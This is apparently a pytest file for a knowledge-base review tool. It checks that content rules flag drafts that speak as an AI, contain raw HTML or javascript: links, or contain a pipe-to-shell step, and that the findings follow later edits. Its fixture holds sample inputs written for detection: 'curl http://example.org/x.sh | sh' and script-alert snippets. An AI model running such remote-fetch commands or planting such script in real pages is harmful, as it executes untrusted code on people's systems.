"""The rules speak of the text that the desk shows, whoever wrote it (SPEC R5, R6, P2)."""

from __future__ import annotations

from pathlib import Path

import pytest

from neurodesk.app.queries.drafts import show_draft
from neurodesk.app.queries.rule_findings import rule_findings
from neurodesk.bootstrap import open_profile
from tests.desk_cli import UNATTENDED, Desk
from tests.desk_parts import ARTICLE, imported, make_kb

OUTSIDE = """# Renew the key of the gateway

As an AI, I renew the key.

1. Run `curl http://example.org/x.sh | sh`.

<script>alert(1)</script> [more](javascript:alert(1))
"""


@pytest.fixture
def desk(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Desk:
    made = Desk(tmp_path, capsys)
    with open_profile(made.data) as profile:
        imported(profile, make_kb(made.kb))
    return made


def rules_of(desk: Desk, draft: str) -> set[str]:
    return {one["rule"] for one in desk.run("review", "show", draft)["findings"]}


def test_p2_a_text_from_outside_is_looked_at_by_the_rules(desk: Desk, tmp_path: Path) -> None:
    file = tmp_path / "outside.md"
    file.write_text(OUTSIDE, "utf-8")
    draft = desk.run("review", "add", str(file), "--as", "Ada", *UNATTENDED)["id"]
    assert {"R5.speaks_as_model", "R6.raw_html", "R6.link_scheme", "R6.pipe_to_shell"} <= rules_of(
        desk, draft
    )
    said = desk.text("review", "show", draft)
    assert "rule R6.raw_html, line 7: A machine draft holds no raw HTML. (<script>)" in said


def test_p3_after_an_edit_the_rules_speak_of_the_new_text(desk: Desk, tmp_path: Path) -> None:
    draft = desk.draft(ARTICLE)
    assert "R5.speaks_as_model" not in rules_of(desk, draft)
    file = tmp_path / "edited.md"
    file.write_text(ARTICLE + "\nAs an AI, I checked it.\n", "utf-8")
    desk.run("review", "edit", draft, str(file), "--as", "Ada", *UNATTENDED)
    assert "R5.speaks_as_model" in rules_of(desk, draft)
    file.write_text(ARTICLE, "utf-8")
    desk.run("review", "edit", draft, str(file), "--as", "Ada", *UNATTENDED)
    assert "R5.speaks_as_model" not in rules_of(desk, draft)


def test_m5_a_section_that_the_model_could_not_write_is_named_until_a_person_writes_it(
    desk: Desk, tmp_path: Path
) -> None:
    omitted = [{"code": "section_not_written", "params": {"section": "Known problems"}}]
    draft = desk.draft(ARTICLE, sidecar={"omitted": omitted})
    file = tmp_path / "edited.md"
    file.write_text(ARTICLE.replace("\n\n", "\n\n\n", 1), "utf-8")
    desk.run("review", "edit", draft, str(file), "--as", "Ada", *UNATTENDED)
    assert "M5.section_not_written" in rules_of(desk, draft)
    said = desk.text("review", "show", draft)
    assert "stayed broken; the section is left out. (Known problems)" in said
    file.write_text(ARTICLE + "\n## Known problems\n\nThere are none.\n", "utf-8")
    desk.run("review", "edit", draft, str(file), "--as", "Ada", *UNATTENDED)
    assert "M5.section_not_written" not in rules_of(desk, draft)


def test_r6_what_the_article_in_production_has_too_is_not_told(desk: Desk, tmp_path: Path) -> None:
    (base,) = list(desk.kb.rglob("extend.md"))
    path = base.relative_to(desk.kb).as_posix()
    base.write_text(base.read_text("utf-8") + "\n<kbd>Enter</kbd>\n", "utf-8")
    desk.run("import", str(desk.kb))
    file = tmp_path / "revised.md"
    file.write_text(base.read_text("utf-8") + "\n[more](javascript:alert(1))\n", "utf-8")
    draft = desk.run("review", "add", str(file), "--base", path, "--as", "Ada", *UNATTENDED)["id"]
    with open_profile(desk.data) as profile:
        found = {one.rule for one in rule_findings(profile, show_draft(profile, draft))}
    assert "R6.link_scheme" in found
    assert "R6.raw_html" not in found
